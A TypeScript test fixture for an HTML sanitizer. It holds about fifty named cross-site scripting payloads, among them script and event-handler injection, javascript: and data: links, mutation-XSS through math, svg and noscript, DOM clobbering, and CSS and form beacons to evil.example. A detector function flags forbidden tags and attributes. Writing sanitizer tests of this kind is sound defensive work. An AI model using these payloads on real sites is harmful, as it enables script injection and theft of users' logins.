/** Attacks on the sanitizer, by what they try. Used by the unit test and by the test in a real browser. */
export const HOSTILE_HTML: readonly { name: string; html: string }[] = [
  { name: 'script element', html: '<p>a</p><script>steal()</script>' },
  { name: 'script in a broken tag', html: '<scr<script>ipt>steal()</scr</script>ipt>' },
  { name: 'uppercase script with attributes', html: '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>' },
  { name: 'image onerror', html: '<img src=x onerror=steal()>' },
  { name: 'handler with odd white space', html: '<img\tsrc="x"\nonerror\n=\n"steal()">' },
  { name: 'handler after a slash', html: '<img/src="x"/onerror=steal()>' },
  { name: 'body onload', html: '<body onload=steal()>a' },
  { name: 'details ontoggle', html: '<details open ontoggle=steal()>a</details>' },
  {
    name: 'animation handler',
    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=steal()>a</b>',
  },
  { name: 'javascript link', html: '<a href="javascript:steal()">a</a>' },
  { name: 'javascript link with entities', html: '<a href="&#106;avascript&colon;steal()">a</a>' },
  { name: 'javascript link with tabs and control characters', html: '<a href="\u0001java\tscript:steal()">a</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:steal()">a</a>' },
  { name: 'data document link', html: '<a href="data:text/html,<script>steal()</script>">a</a>' },
  { name: 'data svg image', html: '<img src="data:image/svg+xml,<svg onload=steal()>">' },
  { name: 'file link', html: '<a href="file:///etc/passwd">a</a>' },
  { name: 'protocol of another program', html: '<a href="ms-msdt:/id PCWDiagnostic">a</a>' },
  { name: 'svg onload', html: '<svg onload=steal()></svg>' },
  { name: 'svg script', html: '<svg><script>steal()</script></svg>' },
  { name: 'svg use', html: '<svg><use href="data:image/svg+xml,x#x"/></svg>' },
  {
    name: 'svg animate',
    html: '<svg><a><animate attributeName=href values=javascript:steal() /><text>a</text></a></svg>',
  },
  { name: 'mathml link', html: '<math><mtext href="javascript:steal()">a</mtext></math>' },
  {
    name: 'mutation through math and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  },
  { name: 'mutation through svg and style', html: '<svg></p><style><a id="</style><img src=1 onerror=steal()>">' },
  {
    name: 'mutation through noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  },
  {
    name: 'mutation through form nesting',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
  },
  { name: 'mutation through a template', html: '<template><img src=x onerror=steal()></template>' },
  {
    name: 'mutation through textarea and title',
    html: '<textarea><img title="</textarea><img src=x onerror=steal()>"></textarea><title><img title="</title><img src=x onerror=steal()>"></title>',
  },
  { name: 'comment with markup', html: '<!--><img src=x onerror=steal()>-->' },
  { name: 'processing instruction', html: '<?xml-stylesheet href="javascript:steal()"?><img src=x onerror=steal()>' },
  { name: 'iframe', html: '<iframe src="https://evil.example"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>steal()</script>"></iframe>' },
  { name: 'object and embed', html: '<object data="javascript:steal()"></object><embed src="javascript:steal()">' },
  { name: 'base', html: '<base href="https://evil.example/"><a href="x">a</a>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'stylesheet link', html: '<link rel=stylesheet href="https://evil.example/x.css">' },
  {
    name: 'form that asks for a password',
    html: '<form action="https://evil.example"><input type=password name=p><button formaction="javascript:steal()">Sign in</button></form>',
  },
  { name: 'style that loads', html: '<p style="background:url(https://evil.example/p.png)">a</p>' },
  {
    name: 'style that loads, spelled with escapes',
    html: '<p style="background:\\75rl(https://evil.example/p.png)">a</p>',
  },
  {
    name: 'style element that imports',
    html: '<style>@import "https://evil.example/x.css"; p { background: url("https://evil.example/p.png") }</style><p>a</p>',
  },
  {
    name: 'style that binds',
    html: '<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc);width:expression(steal())">a</p>',
  },
  { name: 'style that covers', html: '<div style="position:fixed;inset:0">a</div>' },
  {
    name: 'clobbering by id',
    html: '<a id=desk href="https://evil.example">a</a><a id=desk name=call href="https://evil.example">a</a>',
  },
  {
    name: 'clobbering by name',
    html: '<img name=getElementById src="https://evil.example/p.png"><form name=body></form>',
  },
  {
    name: 'popover target',
    html: '<button popovertarget=x onclick=steal()>a</button><div popover id=x onbeforetoggle=steal()>a</div>',
  },
  { name: 'srcset', html: '<img srcset="https://evil.example/p.png 1x" src="https://evil.example/p.png">' },
  {
    name: 'video poster',
    html: '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" onloadstart=steal()></video>',
  },
  {
    name: 'background attribute',
    html: '<table background="https://evil.example/p.png"><tr><td background="javascript:steal()">a</td></tr></table>',
  },
  { name: 'custom element with handler', html: '<x-thing onclick=steal() is=steal>a</x-thing>' },
  { name: 'deep nesting', html: `${'<div>'.repeat(600)}<img src=x onerror=steal()>${'</div>'.repeat(600)}` },
]

/** Lists everything harmful in a fragment; empty when it is clean. Runs in any DOM, including the page's own. */
export function harmIn(root: ParentNode): string[] {
  const harm: string[] = []
  const forbidden = new Set([
    'script',
    'iframe',
    'frame',
    'object',
    'embed',
    'svg',
    'math',
    'form',
    'input',
    'button',
    'select',
    'textarea',
    'base',
    'meta',
    'link',
    'template',
    'noscript',
    'video',
    'audio',
    'title',
  ])
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName
    if (forbidden.has(tag) || tag.includes('-')) harm.push(`<${tag}>`)
    if (tag === 'style') harm.push('<style>')
    if (/url|@import|expression|fixed/i.test(element.getAttribute('data-sheet') ?? ''))
      harm.push(`css ${element.getAttribute('data-sheet') ?? ''}`)
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on')) harm.push(`${tag} ${name}`)
      if (
        [
          'id',
          'name',
          'srcset',
          'srcdoc',
          'action',
          'formaction',
          'poster',
          'background',
          'is',
          'popover',
          'popovertarget',
          'target',
        ].includes(name)
      )
        harm.push(`${tag} ${name}`)
      if ((name === 'style' || name === 'data-style') && /url|expression|binding|behavior|fixed/i.test(value))
        harm.push(`${tag} style ${value}`)
      if (
        (name === 'href' || name === 'src') &&
        !/^(?:https?:|mailto:|tel:|cid:|data:image\/(?:png|jpe?g|gif|webp|bmp);)/i.test(value)
      )
        harm.push(`${tag} ${name}=${value}`)
    }
  }
  return harm
}
